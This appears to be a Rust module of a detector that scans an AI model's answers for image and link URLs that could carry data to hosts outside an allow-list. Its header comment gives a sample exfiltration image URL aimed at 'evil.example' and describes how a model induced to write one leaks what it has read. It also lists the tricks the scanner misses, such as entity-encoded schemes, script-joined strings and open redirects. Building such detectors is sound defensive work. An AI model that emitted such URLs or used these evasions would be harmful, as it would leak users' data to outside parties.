//! EXTERNAL_IMAGE and EXTERNAL_LINK: URLs in an answer that carry something out of it, to hosts that are not in the
//! policy's list (`detectors.links.hosts`).
//!
//! A client that shows an answer fetches its images without a click. Whoever gets a model to write
//! `![x](https://evil.example/?d=<what it has read>)` has what it has read, so an image of a foreign host is a finding,
//! whatever its URL looks like. A link waits for a click, and ordinary answers have links to foreign pages: one is a
//! finding only if its URL carries something ([`url`]): a query, a fragment, a name before the host, a path of more
//! than 32 bytes, a label of the host's name of more than 24 or a name of more than 64. What is found is the URL, in
//! the text as it is written.
//!
//! **How.** Three readers follow the text, each by a grammar of its own: [`markdown`], [`html`] (with style sheets)
//! and [`text`], which knows no grammar. Each notices where a URL starts, waits for its end, and has it judged. They
//! read on their own because a text can look harmless to one grammar thanks to another. The same code reads a whole text
//! and one that arrives in pieces, so both have the same findings. Of findings that overlap, images stay before links,
//! and what is left of one kind becomes one.
//!
//! **Bounds.** A URL is waited for up to [`MAX_URL`] bytes. One that is longer is found in parts of that length if
//! it leads to a foreign host or that is still open, and otherwise let go of.
//!
//! **What this does not do.** It does not see a URL that is taken apart (`h&#116;tps://` in running text, strings that
//! a script joins), nor the content of a `data:` URL, and does not follow redirects: a host in the list that redirects
//! wherever it is told to gives everything away. Code blocks are no excuse: whether one is closed shows too late.
//! In running text a URL ends at a typographic quote or the punctuation of Chinese and Japanese, though some programs
//! read on.

mod decode;
mod html;
mod markdown;
mod text;
mod url;
mod value;

use super::glob;
use super::lane::step::{Over, Step};
use super::types::Type;
use super::{Finding, KindId, Selection};
use crate::sort;
use value::Judge;

/// A longer URL is not waited for.
pub(super) const MAX_URL: usize = 2048;
const SCORE: f32 = 0.9;

/// The hosts that URLs may lead to.
#[derive(Default)]
pub(super) struct Hosts(Vec<String>);

impl Hosts {
    pub(super) fn new(hosts: &[String]) -> Self {
        Self(hosts.iter().map(|host| bare(host).to_lowercase()).collect())
    }

    /// `host` is in lower case.
    fn contain(&self, host: &str) -> bool {
        // What is no host at all must not get through thanks to a `*`.
        let forbidden = |c: char| c <= ' ' || c == '\u{7F}' || "/\\?#@<>^|%[]`{}\"".contains(c);
        !host.contains(forbidden) && self.0.iter().any(|pattern| glob::matches(pattern, host))
    }
}

/// Without the brackets of an address of version 6, and the dot of a name's root.
fn bare(host: &str) -> &str {
    let host = host.strip_suffix('.').unwrap_or(host);
    host.strip_prefix('[').and_then(|h| h.strip_suffix(']')).unwrap_or(host)
}

/// Which of the kinds are looked for.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Wanted {
    images: bool,
    links: bool,
}

impl Wanted {
    pub(super) fn new(selection: &Selection) -> Self {
        let has = |kind: Type| selection.contains(kind.id());
        Self { images: has(Type::ExternalImage), links: has(Type::ExternalLink) }
    }

    pub(super) fn any(self) -> bool {
        self.images || self.links
    }
}

/// A URL that is a finding.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Found {
    start: usize,
    end: usize,
    image: bool,
    reserved: bool,
}

impl Found {
    fn finding(&self) -> Finding {
        let kind = if self.image { Type::ExternalImage.id() } else { Type::ExternalLink.id() };
        Finding { kind, start: self.start, end: self.end, score: SCORE, test_value: self.reserved }
    }
}

/// The readers, somewhere in a text.
#[derive(Debug, Default)]
pub(super) struct Links {
    markdown: markdown::Markdown,
    html: html::Html,
    text: text::Text,
    found: Vec<Found>,
}

impl Links {
    pub(super) fn step(&mut self, step: &Step<'_>, wanted: Wanted, hosts: &Hosts, over: &mut Over) {
        super::work::add(1);
        let mut judge = Judge { wanted, hosts, found: &mut self.found, over };
        let paragraph = self.markdown.step(step, &mut judge);
        self.html.step(step, paragraph, &mut judge);
        if wanted.links {
            self.text.step(step, &mut judge);
        }
    }

    /// The text is over.
    pub(super) fn finish(&mut self, bytes: &[u8], wanted: Wanted, hosts: &Hosts, over: &mut Over) {
        let mut judge = Judge { wanted, hosts, found: &mut self.found, over };
        self.markdown.end(bytes, bytes.len(), &mut judge);
        self.html.end(bytes, bytes.len(), &mut judge);
        self.text.end(bytes, bytes.len(), &mut judge);
    }

    /// Where the earliest URL starts that is open.
    pub(super) fn open(&self) -> usize {
        self.markdown.open().min(self.html.open()).min(self.text.open())
    }

    /// The earliest start of what was found and goes across `cut`.
    pub(super) fn across(&self, cut: usize) -> Option<usize> {
        self.found.iter().filter(|f| f.start < cut && cut < f.end).map(|f| f.start).min()
    }

    /// What lies before `at` goes, whatever goes across.
    pub(super) fn cut(&mut self, at: usize) {
        let behind: Vec<Found> =
            self.found.iter().filter(|f| f.start < at && at < f.end).map(|f| Found { start: at, ..*f }).collect();
        self.found.iter_mut().filter(|f| f.start < at).for_each(|f| f.end = f.end.min(at));
        self.found.extend(behind);
        self.markdown.cut(at);
        self.html.cut(at);
        self.text.cut(at);
    }

    /// Takes what was found before `to`.
    pub(super) fn take(&mut self, to: usize, out: &mut Vec<Finding>) {
        if self.found.is_empty() {
            return;
        }
        let (before, behind): (Vec<_>, Vec<_>) = self.found.drain(..).partition(|f| f.end <= to);
        self.found = behind;
        settle(before, out);
    }

    pub(super) fn shift(&mut self, by: usize) {
        self.markdown.shift(by);
        self.html.shift(by);
        self.text.shift(by);
        for found in &mut self.found {
            (found.start, found.end) = (found.start.saturating_sub(by), found.end.saturating_sub(by));
        }
    }
}

/// What stays where findings overlap.
fn settle(mut found: Vec<Found>, out: &mut Vec<Finding>) {
    sort::plain(&mut found, |a: &Found, b| (!a.image, a.start, a.end) < (!b.image, b.start, b.end));
    found.dedup_by(|next, kept| {
        let overlap = next.image == kept.image && next.start < kept.end;
        if overlap {
            kept.end = kept.end.max(next.end);
            kept.reserved &= next.reserved;
        }
        overlap
    });
    let (images, links): (Vec<_>, Vec<_>) = found.into_iter().partition(|f| f.image);
    let alone = |link: &Found| {
        let before = images.partition_point(|image| image.start < link.end);
        before.checked_sub(1).and_then(|last| images.get(last)).is_none_or(|image| image.end <= link.start)
    };
    out.extend(links.iter().filter(|link| alone(link)).map(Found::finding));
    out.extend(images.iter().map(Found::finding));
}

/// Appends what is found in a whole text.
pub(super) fn scan(text: &str, selection: &Selection, hosts: &Hosts, out: &mut Vec<Finding>) {
    let wanted = Wanted::new(selection);
    if !wanted.any() {
        return;
    }
    let (mut links, mut over) = (Links::default(), Over::default());
    for (at, char) in text.char_indices() {
        let end = at + char.len_utf8();
        let bytes = text.as_bytes().get(..end).unwrap_or_default();
        let byte = super::bytes::at(bytes, at);
        links.step(&Step { bytes, at, end, char, byte }, wanted, hosts, &mut over);
    }
    links.finish(text.as_bytes(), wanted, hosts, &mut over);
    links.take(text.len(), out);
}

/// Whether a kind is found here.
pub(super) fn finds(kind: KindId) -> bool {
    kind == Type::ExternalImage.id() || kind == Type::ExternalLink.id()
}

#[cfg(test)]
fn hosts(hosts: &[&str]) -> Hosts {
    Hosts::new(&hosts.iter().map(|h| (*h).to_owned()).collect::<Vec<_>>())
}
